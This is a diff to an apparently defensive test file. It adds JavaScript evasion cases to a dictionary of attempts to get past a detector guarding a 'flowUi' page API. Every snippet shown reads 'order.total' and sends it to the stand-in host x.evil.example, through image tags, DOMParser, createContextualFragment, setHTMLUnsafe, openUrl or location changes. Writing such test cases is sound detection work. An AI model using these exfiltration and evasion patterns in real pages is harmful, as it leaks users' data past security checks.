@@ -247,6 +247,12 @@ EVASIONS = {
                                     " new Image().src = 'https://x.evil.example/?' + w.flowUi.get('order.total');",
     "flowUi from a sequence": "const f = (0, window).flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
     "flowUi alias assigned later": "let f; f = window.flowUi; new Image().src = 'https://x.evil.example/?' + f.get('order.total');",
+    "flowUi held in an array": "[flowUi][0].openUrl('https://x.evil.example/?' + flowUi.get('order.total'));",
+    "createContextualFragment": "document.body.append(document.createRange().createContextualFragment("
+                                "'<img src=\"https://x.evil.example/?' + flowUi.get('order.total') + '\">'));",
+    "DOMParser": "document.body.append(new DOMParser().parseFromString('<img src=\"https://x.evil.example/?'"
+                 " + flowUi.get('order.total') + '\">', 'text/html').body.firstChild);",
+    "setHTMLUnsafe": "document.body.setHTMLUnsafe(`<img src=\"https://x.evil.example/?${flowUi.get('order.total')}\">`);",
     "document alias write": "const d = document; d.write('<img src=\"https://x.evil.example/?' + flowUi.get('order.total') + '\">');",
     "document alias location": "const d = window.document; d.location.href = 'https://x.evil.example/?' + flowUi.get('order.total');",
     # Values through the language: promises, generators, timers' arguments, Reflect.apply, throw, `arguments`.
